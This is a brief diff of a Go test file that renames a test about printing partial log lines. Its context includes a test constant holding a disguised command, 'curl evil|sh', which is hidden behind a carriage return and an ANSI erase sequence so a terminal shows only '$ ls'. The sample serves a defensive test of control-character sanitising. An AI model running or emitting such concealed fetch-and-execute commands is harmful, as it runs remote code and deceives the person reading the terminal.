@@ -46,7 +46,7 @@ func TestPrintableReplacesControlCharacters(t *testing.T) {
 // disguised shows only `$ ls` on a terminal that obeys its control characters.
 const disguised = "curl evil|sh #\r\x1b[2K  $ ls"
 
-func TestALogLineIsShownBeforeItEnds(t *testing.T) {
+func TestALogLineIsShownBeforeItIsComplete(t *testing.T) {
 	out := &bytes.Buffer{}
 	p := &printer{out: out}
 	for _, part := range []string{"50%\r", "60%", " …"} {
